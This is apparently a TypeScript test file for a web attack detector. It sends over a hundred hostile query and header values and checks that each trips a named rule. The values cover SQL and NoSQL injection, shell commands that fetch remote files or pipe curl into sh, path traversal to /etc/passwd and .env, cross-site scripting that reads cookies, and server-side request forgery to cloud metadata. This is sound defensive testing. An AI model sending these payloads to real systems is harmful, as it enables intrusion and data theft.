// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attacks stand as they are sent
import { expect, test } from 'vitest';
import { judged, type Parts } from './fixtures/judged.ts';

// The neighbours of honest requests: where a rule leaves something alone, what it is there for.

function namesOf(target: string, parts: Parts = {}): readonly string[] {
  const verdict = judged(target, parts);
  return verdict?.alert ? verdict.names : [];
}

const sent = (name: string, value: string) => `/a?${encodeURIComponent(name)}=${encodeURIComponent(value)}`;

const ATTACKS: readonly (readonly [rule: string, name: string, value: string])[] = [
  ['database function', 'x', '1 and length(database())>5'],
  ['database function', 'q', "x' and ascii(substr(database(),1,1))>64"],
  ['database function', '$filter', '1 or sleep(5)'],
  ['database function', 'query', '1 and extractvalue(1,concat(0x7e,version()))'],
  ['function as a value', 'x', "concat('a','b')"],
  ['numbers compared', 'id', '1=1'],
  ['numbers compared', 'x', '1 = 1'],
  ['number and logic', 'id', '1 or 1'],
  ['number and logic', 'id', '1 and 0'],
  ['number and logic', 'id', '1 or 2--'],
  ['select from', 'x', 'select * from users'],
  ['select from', 'q', "x' select * from users"],
  ['union select', 'q', '1 union select null,null'],
  ['select from a catalogue', 'q', 'select table_name from information_schema.tables'],
  ['timing', 'query', '(select(0)from(select(sleep(6)))v)'],
  ['stacked statement', 'name', "Robert'); DROP TABLE Students;--"],
  ['stacked statement', 'q', 'x; drop table users'],
  ['statement', 'x', 'delete from users'],
  ['having or grouping', 'q', "1' order by 4--"],
  ['having or grouping', 'x', '1 order by 4--'],
  ['timing', 'q', "1' and sleep(5)#"],
  ['timing', 'id', 'sleep(5)'],
  ['cast', 'x', '(1)::text'],
  ['cast', 'select', "id'::text"],
  ['many casts of char', 'x', 'load_file(0x2f6574632f706173737764)'],
  ['operator as a parameter', 'user[$ne]', 'x'],
  ['operator as a parameter', 'filter[$where]', 'x'],
  ['operator in JSON', 'user', '{"name":{"$ne":null}}'],
  ['operator in JSON', 'filter', '{"$where":"sleep(1)"}'],
  ['command behind a separator', 'list', 'a;whoami;b'],
  ['common command behind a separator', 'x', 'a; cat foo.txt'],
  ['common command behind a separator', 'x', '|sort /var/www/a'],
  ['common command behind a separator', 'x', '; find / -name a'],
  ['common command behind a separator', 'x', '; i"d" -a'],
  ['command alone behind a separator', 'x', 'foo;id'],
  ['command alone behind a separator', 'message', "it's; 'id'"],
  ['command as a value', 'x', 'wget http://198.51.100.9/a'],
  ['common command as a value', 'x', 'ls -la'],
  ['pipe into a shell', 'q', 'curl https://example.com/a | sh'],
  ['quotes inside a command', 'x', "a; w'h'o'am'i"],
  ['quotes inside a command', 'x', "; i'd'"],
  ['backticks', 'x', '`id`'],
  ['backticks', 'comment', '`id`'],
  ['variables of a shell', 'x', '$HOME'],
  ['shell by its path', 'q', 'x;/bin/id'],
  ['Shellshock', 'x', '() { :;}; echo'],
  ['cmd with a command', 'q', 'cmd.exe /c dir'],
  ['PowerShell command', 'x', 'Invoke-WebRequest -Uri a'],
  ['environment variable', 'x', '%temp%'],
  ['climbing file parameter', 'file', '../config.php'],
  ['climbing file parameter', 'src', '../config.php%00.jpg'],
  ['climbing twice', 'src', '../../a.jpg'],
  ['system file', 'file', '/etc/hosts'],
  ['system file', 'message', '/etc/hosts'],
  ['password files', 'q', 'my /etc/passwd says'],
  ['application files', 'file', '../.env'],
  ['file URL', 'x', 'file:///etc/hosts'],
  ['closed tag and another', 'x', '"/><b>'],
  ['active attribute', 'x', '<a xmlns="http://www.w3.org/1999/xhtml">'],
  ['markup declaration', 'x', '<!DOCTYPE a>'],
  ['script URL', 'x', 'javascript:alert(1)'],
  ['script URL', 'q', 'javascript:void(fetch(1))'],
  ['dialogue call', 'q', 'alert(1)'],
  ['dialogue call', 'x', 'alert()'],
  ['page object', 'x', 'document.write(1)'],
  ['page object', 'q', "'+document.cookie+'"],
  ['evaluation', 'x', 'eval("1")'],
  ['import of a style', 'x', '@import "a.css"'],
  ['path behind a quote', 'x', "a'] | //user[1]"],
  ['function', 'x', 'a or count(/user)=1'],
  ['line break and header', 'x', 'a\r\nLocation: http://198.51.100.9/'],
  ['line break and header', 'x', 'a\r\nStatus: 200 OK'],
  ['call', 'x', 'php system("id")'],
  ['call', 'q', 'system("id");'],
  ['PHP call', 'x', 'eval (a)'],
  ['variable function', 'x', '$a(1)'],
  ['Python', 'x', '{{a.__name__}}'],
  ['runtime', 'x', 'java.lang.Runtime.getRuntime()'],
  ['Java class', 'x', 'java.lang.String'],
  ['command by a stream', 'x', 'r.exec ("id")'],
  ['object of a script', 'x', 'process.env'],
  ['object of a script', 'x', 'Array.prototype.a=1'],
  ['inner name', 'url2', 'http://localhost:8080/admin'],
  ['inner address', 'q', 'http://2130706433/'],
  ['cloud metadata', 'q', 'http://169.254.169.254/latest/meta-data/'],
  ['scheme for other protocols', 'q', 'gopher://127.0.0.1:6379/_INFO'],
  ['scheme for other protocols', 'x', 'ldap://198.51.100.9/a'],
  ['logic behind a quote', 'x', '" or 1 or "'],
  ['logic behind a quote', 'x', "' or 2 limit 1"],
  ['comparison of numbers', 'x', `16" or 18=18`],
  ['logic after a quote', 'q', "' or true"],
  ['logic after a quote', 'q', "' or name like 'a%"],
  ['quote and statement end', 'x', "5';"],
  ['quote and statement end', 'q', "5'; drop"],
  ['number and logic', 'x', '1960 or 1960'],
  ['number and logic', 'x', '1960 or 1'],
  ['number and condition', 'x', '1 collate utf8_general_ci'],
  ['number and comment', 'x', '7--'],
  ['value and comment', 'x', '7/*'],
  ['variable alone', 'x', '@version--'],
  ['session variable compared', 'x', '1 and current_user=2'],
  ['sum compared', 'x', '-1 or 3+101-101-1=0+0+0+2'],
  ['rest of a query', 'x', '3) from members where name='],
  ['case or if', 'x', 'case 3 when 4 then 5 end'],
  ['outfile', 'x', "2 into outfile concat('a','b')"],
  ['comparisons behind a quote', 'x', "b' != 'c' = 0"],
  ['union select', 'x', 'uni<>on sel<>ect 1,2'],
  ['markup', 'x', '<h1>b'],
  ['markup', 'x', 'size<table>'],
  ['ls with names', 'x', 'ls bin lib'],
  ['common command as a value', 'x', 'id > out.txt'],
  ['common command as a value', 'x', 'ls > x'],
  ['path with wildcards', 'x', '/e*c/*hadow'],
  ['path with wildcards', 'x', '/??c/?asswd'],
  ['dialogue call by another name', 'x', 'confirm.call(null,7)'],
  ['dialogue call by another name', 'x', 'prompt?.(7)'],
  ['matching rule', 'x', 'uid:dn:2.5.13.5:=a'],
  ['operator behind a quote', 'x', "', $or: [ { }, { 'a':'b"],
  ['call of a collection', 'x', 'db.members.find()'],
  ['call of a collection', 'q', "'; db.members.drop()"],
  ['share of an address', 'x', '\\\\198.51.100.9\\a'],
  ['share of an address', 'x', '\\\\files\\c$\\users'],
  ['word in pieces', 'x', 'ev"&"a"&"l'],
  ['path parameter with an ending', 'x', '/admin/users;.jsp'],
];

test.each(ATTACKS)('%s in %s: %s', (rule, name, value) => {
  expect(namesOf(sent(name, value))).toContain(rule);
});

test('an escape that hides another, and the upload handler of Telerik', () => {
  expect(namesOf('/a?x=%25%32%65')).toContain('hiding escape');
  expect(namesOf('/Telerik.Web.UI.WebResource.axd?type=rau')).toEqual(['Telerik']);
  expect(namesOf('/Telerik.Web.UI.WebResource.axd?a=b&type=rau')).toEqual(['Telerik']);
});

test('an attack in base64, with padding and without', () => {
  for (const text of ["7' or '1'='1", '<script>alert(7)</script>', ';wget http://198.51.100.9/a.sh'])
    for (const end of ['', '=', '=='])
      expect(namesOf(`/a?x=${Buffer.from(text).toString('base64').replace(/=+$/, '')}${end}`), text).not.toEqual([]);
});

test('a query that stands encoded in a query', () => {
  expect(namesOf('/a?x=%250A1+union%2Bselect%2B1%252C2')).not.toEqual([]);
});

test('a client that sends the marks of a search box itself', () => {
  for (const marks of ['%ee%80%80q%ee%80%81', '%25ee%2580%2580q%25ee%2580%2581', '\uE000q\uE001', '\\ue000q\\ue001'])
    expect(namesOf(`/a?x=${marks}file:///etc/hosts`), marks).toEqual(namesOf('/a?x=xfile:///etc/hosts'));
  expect(namesOf('/a?x=%ee%80%80q%ee%80%81a+%26%26+document.write(1)')).toContain('page object');
});

test('an attack in a header that honest ones resemble', () => {
  expect(namesOf('/', { userAgent: 'a; curl 198.51.100.9' })).toContain('command behind a separator in a header');
  expect(namesOf('/', { referrer: 'https://www.google.com/search?q=<script>alert(1)</script>' })).toContain(
    'script tag',
  );
  expect(namesOf('/', { referrer: 'https://www.google.com.example/search?q=%3Cscript%3Ealert(1)' })).toContain(
    'script tag',
  );
});
